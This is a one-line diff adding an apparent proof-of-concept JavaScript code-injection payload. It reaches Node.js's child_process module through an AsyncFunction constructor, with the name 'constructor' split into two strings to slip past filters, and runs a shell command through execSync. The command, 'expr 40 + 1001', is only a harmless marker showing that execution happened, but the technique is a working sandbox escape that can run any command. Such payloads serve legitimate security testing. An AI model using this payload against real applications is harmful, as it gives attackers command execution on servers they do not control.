@@ -1,0 +1,1 @@
+(async()=>{})['constr'+'uctor']('process.mainModule.require("child_process").execSync("expr 40 + 1001",{stdio:"inherit"})')();
